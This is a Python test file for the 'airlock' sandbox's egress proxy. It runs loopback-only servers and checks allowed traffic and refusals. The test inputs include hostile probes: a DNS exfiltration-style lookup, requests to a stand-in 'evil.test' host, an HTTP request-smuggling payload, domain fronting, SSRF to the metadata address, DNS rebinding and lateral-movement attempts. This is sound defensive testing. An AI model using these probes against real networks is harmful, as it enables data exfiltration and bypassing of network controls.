"""Egress through airlock's proxy (network.mode: proxy, docs/egress.md).

Real clients inside the sandbox -- curl (HTTP, HTTPS via CONNECT, SOCKS5h),
python3 urllib with and without the proxy variables, node's fetch (which
ignores them: the transparent path), pip download from a local index, git
clone over dumb HTTP -- against real servers this module starts on the
host's loopback (127.0.0.2-127.0.0.6), named through --add-host or a
logging DNS server given as --resolver, and allowed through --allow-cidr.
Nothing here sends traffic anywhere but the host's loopback.

Evidence for every refusal: the client sees the proxy's error, the log has
the net_* record, and the server (a counting listener) saw no contact.
"""
import hashlib
import http.server
import json
import os
import shutil
import signal
import socket
import socketserver
import ssl
import struct
import subprocess
import threading
import time
import zipfile
from pathlib import Path

import pytest

from conftest import EXIT_SETUP, mkdtemp_world

pytestmark = pytest.mark.usefixtures("airlock_works")

MIRROR = "127.0.0.2"    # plain HTTP: files, a pip index, a git repository
SECURE = "127.0.0.3"    # HTTPS (self-signed, names secure.test and other.test)
CANARY = "127.0.0.4"    # must never be contacted
DNS = "127.0.0.5"       # the proxy's upstream resolver, logs every query
UPSTREAM = "127.0.0.6"  # HTTP, named only through DNS (upstream.test)

BLOB = os.urandom(300_000)
BLOB_SHA = hashlib.sha256(BLOB).hexdigest()


# ---- servers on the host's loopback -------------------------------------------------

class CountingServer:
    """Accepts and counts connections, sends nothing: 'the server saw no contact'."""

    def __init__(self, addr):
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((addr, 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.count = 0
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            self.count += 1
            c.close()


class Handler(http.server.SimpleHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *a):
        pass

    def do_GET(self):
        self.server.requests.append((self.path, self.headers.get("Host")))
        return super().do_GET()

    def do_POST(self):
        n = int(self.headers.get("Content-Length", "0"))
        body = self.rfile.read(n)
        self.server.requests.append((self.path, self.headers.get("Host")))
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


class WebServer(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, addr, root, tls=None):
        self.requests = []
        self.connections = 0
        self.root = root
        super().__init__((addr, 0), lambda *a: Handler(*a, directory=str(root)))
        if tls:
            self.socket = tls.wrap_socket(self.socket, server_side=True)
        self.port = self.server_address[1]
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def get_request(self):
        r = super().get_request()
        self.connections += 1
        return r

    def handle_error(self, request, client_address):
        pass


class LoggingDNS:
    """UDP DNS on DNS:port that answers every A query with UPSTREAM (and
    rebind.test with 127.0.0.1), and remembers every name it was asked."""

    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((DNS, 0))
        self.port = self.sock.getsockname()[1]
        self.queries = []
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self):
        while True:
            try:
                q, peer = self.sock.recvfrom(4096)
            except OSError:
                return
            try:
                name, end = self._qname(q)
                qtype = struct.unpack("!H", q[end:end + 2])[0]
            except Exception:
                continue
            self.queries.append(name)
            ident = q[:2]
            question = q[12:end + 4]
            if qtype == 1:
                addr = "127.0.0.1" if name.startswith("rebind.") else UPSTREAM
                ans = (b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 5, 4) + socket.inet_aton(addr))
                hdr = ident + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0)
            else:
                ans = b""
                hdr = ident + struct.pack("!HHHHH", 0x8180, 1, 0, 0, 0)
            self.sock.sendto(hdr + question + ans, peer)

    @staticmethod
    def _qname(q):
        i, labels = 12, []
        while q[i]:
            labels.append(q[i + 1:i + 1 + q[i]].decode("ascii", "replace"))
            i += 1 + q[i]
        return ".".join(labels).lower(), i + 1


def make_wheel(path):
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("airlockdemo/__init__.py", "VALUE = 42\n")
        z.writestr("airlockdemo-1.0.dist-info/METADATA",
                   "Metadata-Version: 2.1\nName: airlockdemo\nVersion: 1.0\n")
        z.writestr("airlockdemo-1.0.dist-info/WHEEL",
                   "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        z.writestr("airlockdemo-1.0.dist-info/RECORD", "")


@pytest.fixture(scope="module")
def net():
    """Every server, the certificate, and the files they serve."""
    root = mkdtemp_world("airlock-egress-")
    www = root / "www"
    www.mkdir()
    (www / "blob").write_bytes(BLOB)
    (www / "hello.txt").write_text("hello from the mirror\n")
    simple = www / "simple" / "airlockdemo"
    simple.mkdir(parents=True)
    make_wheel(www / "airlockdemo-1.0-py3-none-any.whl")
    (simple / "index.html").write_text(
        '<html><body><a href="../../airlockdemo-1.0-py3-none-any.whl">'
        'airlockdemo-1.0-py3-none-any.whl</a></body></html>\n')
    src = root / "src"
    env = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@t", GIT_COMMITTER_NAME="t",
               GIT_COMMITTER_EMAIL="t@t", HOME=str(root))
    subprocess.run(["git", "init", "-q", str(src)], check=True, env=env)
    (src / "README").write_text("cloned through the proxy\n")
    subprocess.run(["git", "-C", str(src), "add", "README"], check=True, env=env)
    subprocess.run(["git", "-C", str(src), "commit", "-qm", "one"], check=True, env=env)
    subprocess.run(["git", "clone", "-q", "--bare", str(src), str(www / "repo.git")], check=True,
                   env=env)
    subprocess.run(["git", "-C", str(www / "repo.git"), "update-server-info"], check=True, env=env)

    certs = root / "certs"
    certs.mkdir()
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
                    "-keyout", str(certs / "key.pem"), "-out", str(certs / "cert.pem"),
                    "-subj", "/CN=secure.test",
                    "-addext", "subjectAltName=DNS:secure.test,DNS:other.test"],
                   check=True, capture_output=True)
    for p in root.rglob("*"):
        p.chmod(0o755 if p.is_dir() else 0o644)
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(certs / "cert.pem", certs / "key.pem")

    class N:
        pass
    n = N()
    n.root, n.certs = root, certs
    n.mirror = WebServer(MIRROR, www)
    n.secure = WebServer(SECURE, www, tls=tls)
    n.upstream = WebServer(UPSTREAM, www)
    n.canary = CountingServer(CANARY)
    n.dns = LoggingDNS()
    yield n
    for s in (n.mirror, n.secure, n.upstream):
        s.shutdown()
    shutil.rmtree(root, ignore_errors=True)


def policy(net, *extra):
    """The options of a proxy-mode run against these servers."""
    return ["--net", "proxy",
            "--allow-domain", "mirror.test", "--allow-domain", "secure.test",
            "--allow-domain", "upstream.test", "--allow-domain", "*.wild.test",
            "--allow-domain", "ssrf.test", "--allow-domain", "meta.test",
            "--allow-domain", "rebind.test",
            "--add-host", f"mirror.test:{MIRROR}", "--add-host", f"secure.test:{SECURE}",
            "--add-host", f"evil.test:{CANARY}", "--add-host", f"a.wild.test:{MIRROR}",
            "--add-host", f"wild.test:{CANARY}", "--add-host", f"badwild.test:{CANARY}",
            "--add-host", f"wild.test.evil.test:{CANARY}",
            "--add-host", "ssrf.test:127.0.0.1", "--add-host", "meta.test:169.254.169.254",
            "--allow-cidr", MIRROR, "--allow-cidr", SECURE, "--allow-cidr", UPSTREAM,
            "--allow-port", str(net.mirror.port), "--allow-port", str(net.secure.port),
            "--allow-port", str(net.upstream.port),
            "--resolver", f"{DNS}:{net.dns.port}",
            "-v", f"{net.certs}:/certs:ro", *extra]


def records(log):
    return [json.loads(line) for line in Path(log).read_text().splitlines() if line.strip()]


def of_type(recs, t):
    return [r for r in recs if r["type"] == t]


def sandbox(airlock, net, tmp, script, *extra, timeout=90, py=None):
    """Run script (sh) in a proxy-mode sandbox; py, if given, is Python
    source the script can run as /t/s.py."""
    log = Path(tmp) / "run.jsonl"
    if py is not None:
        (Path(tmp) / "s.py").write_text(py)
        (Path(tmp) / "s.py").chmod(0o644)
        extra = (*extra, "-v", f"{tmp}:/t:ro")
    r = airlock.run("run", *airlock.extra, "--log", log, *policy(net, *extra), "--",
                    "/bin/sh", "-c", script, timeout=timeout)
    r.log = records(log) if log.exists() else []
    r.logpath = log
    return r


def out(r):
    return r.stdout.decode(errors="replace")


def assert_all_closed(r):
    """Every relayed connection has its net_close, those still open when
    the workload ended included (the proxy flushes its reports on stop)."""
    closed = {c["conn"] for c in of_type(r.log, "net_close")}
    opened = [c for c in of_type(r.log, "net_connect") if c["allowed"]]
    assert all(c["conn"] in closed for c in opened), (opened, closed)


# ---- the sandbox side -------------------------------------------------------------

def test_inside_resolv_env_and_start_record(airlock, net, world_tmp):
    r = sandbox(airlock, net, world_tmp,
                "cat /etc/resolv.conf; env | grep -i _proxy= | sort")
    assert r.rc == 0, r.describe()
    o = out(r)
    assert "nameserver 127.0.0.1" in o
    for v in ("HTTP_PROXY=http://127.0.0.1:3128", "https_proxy=http://127.0.0.1:3128",
              "ALL_PROXY=socks5h://127.0.0.1:1080", "no_proxy=localhost,127.0.0.1,::1"):
        assert v in o, o
    start = of_type(r.log, "run_start")[0]
    assert start["protections"]["network"] == "proxy"
    eg = start["protections"]["egress"]
    assert "mirror.test" in eg["allow_domains"] and f"{MIRROR}/32" in eg["allow_cidr"]
    assert eg["resolvers"] == [f"{DNS}:{net.dns.port}"]
    assert start["spec"]["network"]["mode"] == "proxy"


def host_nameservers():
    out = []
    try:
        for line in Path("/etc/resolv.conf").read_text().splitlines():
            f = line.split()
            if len(f) >= 2 and f[0] == "nameserver" and "%" not in f[1] and len(out) < 3:
                out.append(f[1])
    except OSError:
        pass
    return out


def test_default_resolvers_and_landlock_record(airlock, world_tmp):
    """Without resolver: the host's resolv.conf nameservers are what the
    proxy uses, and run_start says so; Landlock leaves connect to the
    redirect (bind stays denied without loopback_tcp)."""
    log = Path(world_tmp) / "run.jsonl"
    r = airlock.run("run", *airlock.extra, "--log", log, "--net", "proxy", "--", "/bin/true")
    assert r.rc == 0, r.describe()
    start = of_type(records(log), "run_start")[0]
    assert start["protections"]["egress"]["resolvers"] == host_nameservers()
    assert start["spec"]["network"]["resolver"] == []
    ll = start["protections"]["landlock"]
    if ll and "net_tcp_connect_denied" in ll:
        assert ll["net_tcp_connect_denied"] is False
        assert ll["net_tcp_bind_denied"] is (not start["spec"]["network"]["loopback_tcp"])


def test_udp_icmp_raw_dropped(airlock, net, world_tmp):
    """Nothing but TCP (to the proxy) and DNS to the proxy leaves: UDP to the
    real resolver is refused inside (EPERM) and never arrives; raw and ping
    sockets are refused."""
    before = len(net.dns.queries)
    r = sandbox(airlock, net, world_tmp,
                f"/probe/probe udp-send {DNS} {net.dns.port} leak.example; "
                "/probe/probe udp-send 127.0.0.7 53 leak; "
                "python3 -c 'import socket\n"
                "for a in ((socket.SOCK_RAW, 1), (socket.SOCK_DGRAM, 1)):\n"
                "  try: socket.socket(socket.AF_INET, *a).sendto(b\"\\x08\\0\\0\\0\\0\\0\\0\\0\", (\"127.0.0.8\", 0)); print(\"icmp sent\")\n"
                "  except OSError as e: print(\"icmp refused\", e.errno)'",
                "-v", f"{airlock.probe_dir}:/probe:ro")
    assert r.rc == 0, r.describe()
    sends = r.all("udp-send")
    assert len(sends) == 2 and all(s["ok"] is False and s["errno"] == "EPERM" for s in sends), sends
    assert out(r).count("icmp refused") == 2, out(r)
    time.sleep(0.2)
    assert len(net.dns.queries) == before


def test_root_inside_cannot_touch_the_rules(airlock, net, world_tmp):
    """uid 0 inside holds no capability: it can neither read nor change the
    netns's rules (netlink is refused), nor take the proxy's ports, nor open
    raw sockets."""
    py = """
import socket
tries = {
    'bind53': lambda: socket.socket().bind(('127.0.0.1', 53)),
    'bind3129': lambda: socket.socket().bind(('127.0.0.1', 3129)),
    'netfilter': lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12),
    'rtnetlink': lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0),
    'raw': lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 6),
}
for k, f in tries.items():
    try:
        f()
        print(k, 'ALLOWED')
    except OSError as e:
        print(k, 'refused', e.errno)
"""
    r = sandbox(airlock, net, world_tmp, "nft list ruleset; echo nft=$?; python3 /t/s.py",
                "--user", "0", "--allow-loopback-tcp", py=py)
    assert r.rc == 0, r.describe()
    o = out(r)
    assert "ALLOWED" not in o and o.count("refused") == 5, o
    assert "nft=0" not in o and "airlock" not in o.split("nft=")[0], o


# ---- allowed traffic, every client ------------------------------------------------

def test_curl_http_https_socks(airlock, net, world_tmp):
    m, s = net.mirror.port, net.secure.port
    r = sandbox(airlock, net, world_tmp,
                f"curl -sS --max-time 20 http://mirror.test:{m}/blob | sha256sum; "
                f"curl -sS --max-time 20 --cacert /certs/cert.pem https://secure.test:{s}/blob | sha256sum; "
                f"curl -sS --max-time 20 --noproxy '' -x socks5h://127.0.0.1:1080 "
                f"http://mirror.test:{m}/hello.txt")
    assert r.rc == 0, r.describe()
    o = out(r)
    assert o.count(BLOB_SHA) == 2, r.describe()
    assert "hello from the mirror" in o
    assert_all_closed(r)
    conns = [c for c in of_type(r.log, "net_connect") if c["allowed"]]
    protos = {c["proto"] for c in conns}
    assert {"http", "https-connect", "socks5"} <= protos, conns
    tls = [c for c in conns if c["proto"] == "https-connect"][0]
    assert tls["name"] == "secure.test" and tls["port"] == s and tls["addr"].startswith(SECURE)
    # byte counts: the whole blob came down each way it was fetched
    closes = {c["conn"]: c for c in of_type(r.log, "net_close")}
    for c in conns:
        if c["proto"] in ("http", "https-connect"):
            cl = closes[c["conn"]]
            assert len(BLOB) <= cl["bytes_down"] < len(BLOB) + 8192, (c, cl)
            assert cl["bytes_up"] > 0


def test_python_urllib_with_and_without_proxy_variables(airlock, net, world_tmp):
    m = net.mirror.port
    py = f"""
import hashlib, urllib.request
u = 'http://mirror.test:{m}/blob'
print('env', hashlib.sha256(urllib.request.urlopen(u, timeout=20).read()).hexdigest())
o = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
print('direct', hashlib.sha256(o.open(u, timeout=20).read()).hexdigest())
"""
    r = sandbox(airlock, net, world_tmp, "python3 /t/s.py", py=py)
    assert r.rc == 0, r.describe()
    assert f"env {BLOB_SHA}" in out(r) and f"direct {BLOB_SHA}" in out(r), r.describe()
    assert_all_closed(r)
    protos = [c["proto"] for c in of_type(r.log, "net_connect") if c["allowed"]]
    assert "http" in protos and "transparent" in protos, protos


def test_node_fetch_transparent(airlock, net, world_tmp):
    """Node's fetch ignores HTTP_PROXY: only the redirect catches it, HTTP
    (Host header) and HTTPS (SNI) alike."""
    if not shutil.which("node"):
        pytest.skip("node is not installed")
    m, s = net.mirror.port, net.secure.port
    js = ("const c=require('crypto');"
          "(async()=>{for(const u of ['http://mirror.test:%d/blob','https://secure.test:%d/blob']){"
          "const b=Buffer.from(await (await fetch(u)).arrayBuffer());"
          "console.log(u.split(':')[0], c.createHash('sha256').update(b).digest('hex'));}})()"
          ".catch(e=>{console.log('ERR', e.cause||e); process.exit(3)})") % (m, s)
    (Path(world_tmp) / "f.js").write_text(js)
    (Path(world_tmp) / "f.js").chmod(0o644)
    r = sandbox(airlock, net, world_tmp, "NODE_EXTRA_CA_CERTS=/certs/cert.pem node /t/f.js",
                "-v", f"{world_tmp}:/t:ro")
    assert r.rc == 0, r.describe()
    assert f"http {BLOB_SHA}" in out(r) and f"https {BLOB_SHA}" in out(r), r.describe()
    assert_all_closed(r)
    conns = [c for c in of_type(r.log, "net_connect") if c["allowed"]]
    assert [c["proto"] for c in conns] == ["transparent", "transparent"], conns
    assert conns[1]["sni"] == "secure.test"


def test_pip_download_and_git_clone(airlock, net, world_tmp):
    m = net.mirror.port
    r = sandbox(airlock, net, world_tmp,
                f"python3 -m pip download -q --no-deps --no-cache-dir --disable-pip-version-check "
                f"--trusted-host mirror.test --index-url http://mirror.test:{m}/simple/ -d /tmp/dl airlockdemo && ls /tmp/dl && "
                f"git clone -q http://mirror.test:{m}/repo.git /tmp/repo && cat /tmp/repo/README && "
                f"GIT_SSL_CAINFO=/certs/cert.pem git clone -q "
                f"https://secure.test:{net.secure.port}/repo.git /tmp/repo2 && cat /tmp/repo2/README",
                timeout=120)
    assert r.rc == 0, r.describe()
    assert "airlockdemo-1.0-py3-none-any.whl" in out(r)
    assert out(r).count("cloned through the proxy") == 2, out(r)
    assert any(c["proto"] == "https-connect" and c["name"] == "secure.test"
               for c in of_type(r.log, "net_connect") if c["allowed"])
    paths = [p for p, _ in net.mirror.requests]
    assert "/simple/airlockdemo/" in paths and any(p.startswith("/repo.git/") for p in paths)


def test_name_resolved_upstream(airlock, net, world_tmp):
    """An allowed name not in hosts is resolved by the proxy from the host
    side, through the configured resolver."""
    r = sandbox(airlock, net, world_tmp,
                f"curl -sS --max-time 20 http://upstream.test:{net.upstream.port}/hello.txt")
    assert r.rc == 0, r.describe()
    assert "hello from the mirror" in out(r)
    assert "upstream.test" in net.dns.queries


# ---- refusals ---------------------------------------------------------------------

def test_denied_name_refused_and_server_untouched(airlock, net, world_tmp):
    before = net.canary.count
    c = net.canary.port
    r = sandbox(airlock, net, world_tmp,
                f"curl -sS -o /dev/null -w '%{{http_code}}\\n' --max-time 20 http://evil.test:{c}/; "
                f"curl -sS --max-time 20 --noproxy '' -x socks5h://127.0.0.1:1080 http://evil.test:{c}/; "
                f"echo socks=$?; python3 /t/s.py",
                "--allow-port", str(c),
                py=f"""
import socket
s = socket.create_connection(('{CANARY}', {c}), 10)
s.sendall(b'GET / HTTP/1.1\\r\\nHost: evil.test:{c}\\r\\nConnection: close\\r\\n\\r\\n')
print('transparent', (s.recv(100).split(b'\\r\\n')[0] or b'closed').decode())
""")
    assert r.rc == 0, r.describe()
    o = out(r)
    assert "403" in o, o
    assert "socks=0" not in o
    refused = [x for x in of_type(r.log, "net_connect") if not x["allowed"]]
    assert len(refused) >= 3, refused
    assert {"http", "socks5", "transparent"} <= {x["proto"] for x in refused}
    time.sleep(0.3)
    assert net.canary.count == before


def test_dns_answers_only_allowed_names_and_leaks_nothing(airlock, net, world_tmp):
    before = list(net.dns.queries)
    r = sandbox(airlock, net, world_tmp,
                "for n in a.wild.test wild.test badwild.test wild.test.evil.test "
                "c2VjcmV0.exfil.example evil.test mirror.test; do "
                "if getent hosts $n >/dev/null; then echo $n=yes; else echo $n=no; fi; done")
    assert r.rc == 0, r.describe()
    o = out(r)
    for n in ("a.wild.test", "mirror.test"):
        assert f"{n}=yes" in o, o
    for n in ("wild.test", "badwild.test", "wild.test.evil.test", "c2VjcmV0.exfil.example",
              "evil.test"):
        assert f"{n}=no" in o, o
    assert net.dns.queries == before, "a query reached the upstream resolver"
    dns = of_type(r.log, "net_dns")
    assert any(d["name"] == "c2vjcmv0.exfil.example" or d["name"] == "c2VjcmV0.exfil.example"
               for d in dns if not d["allowed"]), dns


def test_ports_and_private_addresses(airlock, net, world_tmp):
    """A port outside allow_ports (9), an allowed name resolving to 127.0.0.1
    (hosts, or the upstream resolver: rebind.test) or the metadata address,
    and a raw IP outside allow_cidr: all refused."""
    r = sandbox(airlock, net, world_tmp,
                "for u in http://mirror.test:9/ http://ssrf.test:%d/ http://meta.test:80/ "
                "http://%s:%d/ http://rebind.test:%d/; do "
                "echo \"$u $(curl -s -o /dev/null -w '%%{http_code}' --max-time 20 $u)\"; done"
                % (net.mirror.port, CANARY, net.canary.port, net.mirror.port),
                "--allow-port", "80", "--allow-port", str(net.canary.port))
    assert r.rc == 0, r.describe()
    for line in out(r).splitlines():
        assert line.endswith(" 403") or line.endswith(" 502"), out(r)
    refused = [x for x in of_type(r.log, "net_connect") if not x["allowed"]]
    assert len(refused) >= 5, refused


def test_sni_mismatch_and_domain_fronting(airlock, net, world_tmp):
    s = net.secure.port
    py = f"""
import socket, ssl
ctx = ssl.create_default_context(cafile='/certs/cert.pem')
socket.getaddrinfo('secure.test', {s})
def tls(sock, sni):
    try:
        ctx.wrap_socket(sock, server_hostname=sni).close()
        return 'handshake'
    except Exception:
        return 'refused'
print('transparent-other', tls(socket.create_connection(('{SECURE}', {s}), 10), 'other.test'))
print('transparent-ok', tls(socket.create_connection(('{SECURE}', {s}), 10), 'secure.test'))
c = socket.create_connection(('127.0.0.1', 3128), 10)
c.sendall(b'CONNECT secure.test:{s} HTTP/1.1\\r\\nHost: secure.test:{s}\\r\\n\\r\\n')
print('connect', c.recv(100).split(b'\\r\\n')[0].decode())
print('fronted', tls(c, 'other.test'))
"""
    r = sandbox(airlock, net, world_tmp, "python3 /t/s.py", py=py)
    assert r.rc == 0, r.describe()
    o = out(r)
    assert "transparent-other refused" in o and "transparent-ok handshake" in o, o
    assert "fronted refused" in o, o
    reasons = [x.get("reason") or "" for x in of_type(r.log, "net_connect") if not x["allowed"]]
    assert sum("sni" in x for x in reasons) >= 2, reasons


def test_pipelined_second_request_and_smuggling(airlock, net, world_tmp):
    m, c = net.mirror.port, net.canary.port
    before = net.canary.count
    py = f"""
import socket
s = socket.create_connection(('127.0.0.1', 3128), 10)
s.sendall(b'GET http://mirror.test:{m}/hello.txt HTTP/1.1\\r\\nHost: mirror.test:{m}\\r\\n\\r\\n'
          b'GET http://evil.test:{c}/ HTTP/1.1\\r\\nHost: evil.test:{c}\\r\\n\\r\\n')
s.settimeout(10)
data = b''
try:
    while True:
        d = s.recv(65536)
        if not d:
            break
        data += d
except socket.timeout:
    pass
import re
print('statuses', [m.decode() for m in re.findall(rb'HTTP/1\\.[01] (\\d\\d\\d) ', data)])
s = socket.create_connection(('127.0.0.1', 3128), 10)
s.sendall(b'POST http://mirror.test:{m}/x HTTP/1.1\\r\\nHost: mirror.test:{m}\\r\\n'
          b'Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n')
print('smuggle', s.recv(100).split(b'\\r\\n')[0].decode())
"""
    r = sandbox(airlock, net, world_tmp, "python3 /t/s.py", "--allow-port", str(c), py=py)
    assert r.rc == 0, r.describe()
    o = out(r)
    assert "statuses ['200', '403']" in o, o
    assert "smuggle HTTP/1.1 400" in o, o
    assert not any(p == "/x" for p, _ in net.mirror.requests)
    time.sleep(0.3)
    assert net.canary.count == before


def test_direct_connect_to_allowed_address_goes_through_proxy(airlock, net, world_tmp):
    """A raw connect to the mirror's address, skipping every variable: it is
    the proxy that answers (a record of it), and without a name it is refused."""
    m = net.mirror.port
    py = f"""
import socket
s = socket.create_connection(('{MIRROR}', {m}), 10)
s.sendall(b'GET /hello.txt HTTP/1.1\\r\\nHost: mirror.test:{m}\\r\\nConnection: close\\r\\n\\r\\n')
print('named', s.recv(200).split(b'\\r\\n')[0].decode())
s = socket.create_connection(('{MIRROR}', {m}), 10)
s.sendall(b'GET /hello.txt HTTP/1.1\\r\\nHost: {MIRROR}:{m}\\r\\nConnection: close\\r\\n\\r\\n')
print('raw', (s.recv(200).split(b'\\r\\n')[0] or b'closed').decode())
"""
    r = sandbox(airlock, net, world_tmp, "getent hosts mirror.test; python3 /t/s.py", py=py)
    assert r.rc == 0, r.describe()
    conns = [x for x in of_type(r.log, "net_connect") if x["proto"] == "transparent"]
    assert len(conns) == 2, conns
    assert "named HTTP/1.1 200" in out(r), out(r)


def test_hostile_names_are_escaped_and_log_verifies(airlock, airlock_bin, net, world_tmp):
    """A DNS query whose name holds quotes, backslashes and control bytes
    ends up as a correctly escaped record; the log verifies."""
    py = r"""
import socket, struct
name = b'a"b\\c\x01\x7fd\n\xff'
q = struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + bytes([len(name)]) + name + b'\x04test\x00'
q += struct.pack('!HH', 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(q, ('127.0.0.1', 53))
try:
    r = s.recv(512)
    print('rcode', r[3] & 15)
except socket.timeout:
    print('rcode none')
"""
    r = sandbox(airlock, net, world_tmp, "python3 /t/s.py", py=py)
    assert r.rc == 0, r.describe()
    assert "rcode" in out(r)
    v = subprocess.run([str(airlock_bin), "log", "verify", str(r.logpath)], capture_output=True)
    assert v.returncode == 0, v.stdout + v.stderr
    assert of_type(r.log, "net_dns") or of_type(r.log, "net_error")


# ---- fail closed ------------------------------------------------------------------

def test_proxy_death_kills_the_run(airlock, net, world_tmp):
    log = Path(world_tmp) / "run.jsonl"
    p = airlock.popen("run", *airlock.extra, "--log", log, *policy(net), "--", "/bin/sleep", "60")
    try:
        deadline = time.time() + 20
        proxy = None
        # airlock's children: the sandbox init (which renames itself
        # airlock-init) and the proxy (a fork of airlock, not renamed)
        while time.time() < deadline and proxy is None:
            try:
                kids = Path(f"/proc/{p.pid}/task/{p.pid}/children").read_text().split()
            except OSError:
                kids = []
            names = {}
            for k in kids:
                try:
                    names[k] = Path(f"/proc/{k}/cmdline").read_bytes()
                except OSError:
                    pass
            if len(names) == 2 and any(v.startswith(b"airlock-init") for v in names.values()):
                proxy = int([k for k, v in names.items() if not v.startswith(b"airlock-init")][0])
            time.sleep(0.05)
        assert proxy, "no proxy process found"
        time.sleep(0.3)
        os.kill(proxy, signal.SIGKILL)
        rc = p.wait(timeout=30)
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
    assert rc == EXIT_SETUP
    recs = records(log)
    end = of_type(recs, "run_end")[-1]
    assert end["verdict"] == "airlock-error" and "egress proxy" in end["reason"], end
    assert any("egress proxy" in e["reason"] for e in of_type(recs, "net_error"))


# ---- lateral movement -------------------------------------------------------------

def test_host_loopback_and_other_sandboxes_unreachable(airlock, net, world_tmp):
    """A listener on the host's 127.0.0.1 and a server inside another running
    sandbox: neither is reachable, directly or through the proxy, when
    allow_cidr does not name them."""
    host = CountingServer("127.0.0.1")
    a_dir = mkdtemp_world()
    (a_dir / "a.py").write_text(
        "import socket, sys\n"
        "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()\n"
        "print(s.getsockname()[1], flush=True)\n"
        "import os\n"
        "s.settimeout(0.2)\n"
        "while not os.path.exists('/a/stop'):\n"
        "    try:\n"
        "        s.accept(); print('CONTACTED', flush=True)\n"
        "    except socket.timeout:\n"
        "        pass\n"
        "print('untouched', flush=True)\n")
    (a_dir / "a.py").chmod(0o644)
    a = airlock.popen("run", *airlock.extra, *policy(net), "--allow-loopback-tcp",
                      "-v", f"{a_dir}:/a:ro", "--", "python3", "/a/a.py")
    try:
        port_a = int(a.stdout.readline().strip())
        hp = host.port
        r = sandbox(airlock, net, world_tmp,
                    "for p in %d %d; do python3 -c \"import socket,sys\n"
                    "try:\n socket.create_connection(('127.0.0.1', int(sys.argv[1])), 5); print('reached', sys.argv[1])\n"
                    "except OSError as e: print('refused', sys.argv[1], e.errno)\" $p; "
                    "echo \"proxy $p $(curl -s -o /dev/null -w '%%{http_code}' --max-time 10 "
                    "--noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:$p/)\"; done" % (port_a, hp),
                    "--allow-port", str(port_a), "--allow-port", str(hp))
        assert r.rc == 0, r.describe()
        o = out(r)
        assert "reached" not in o, o
        assert o.count("refused") == 2 and f"proxy {port_a} 403" in o and f"proxy {hp} 403" in o, o
    finally:
        (a_dir / "stop").write_text("")
        rest = a.communicate(timeout=60)[0].decode()
        shutil.rmtree(a_dir, ignore_errors=True)
    assert "untouched" in rest and "CONTACTED" not in rest, rest
    assert host.count == 0


# ---- network chaos ----------------------------------------------------------------

def test_chaos_same_seed_same_schedule(airlock, net, world_tmp):
    """Stalls are decided per segment of the byte stream from the seed: the
    same seed and the same transfer give the same chaos records, the data
    still arrives intact, and run_start records the schedule's parameters."""
    def run(seed, tag):
        d = Path(world_tmp) / tag
        d.mkdir()
        d.chmod(0o755)
        spec = d / "spec.yaml"
        spec.write_text("chaos:\n  seed: %d\n  network: {loss: 0.25}\n" % seed)
        spec.chmod(0o644)
        r = sandbox(airlock, net, d,
                    f"curl -sS --max-time 60 http://mirror.test:{net.mirror.port}/blob | sha256sum",
                    "--spec", spec, timeout=120)
        assert r.rc == 0, r.describe()
        assert BLOB_SHA in out(r), r.describe()
        eg = of_type(r.log, "run_start")[0]["protections"]["egress"]
        assert eg["chaos"]["seed"] == seed and eg["chaos"]["loss"] == 0.25
        return [c["injected"] for c in of_type(r.log, "chaos")]

    a, b, other = run(7, "a"), run(7, "b"), run(8, "c")
    assert a, "loss 0.25 over ~19 segments injected nothing"
    assert all(x.startswith("stall ") for x in a), a
    assert a == b
    assert a != other
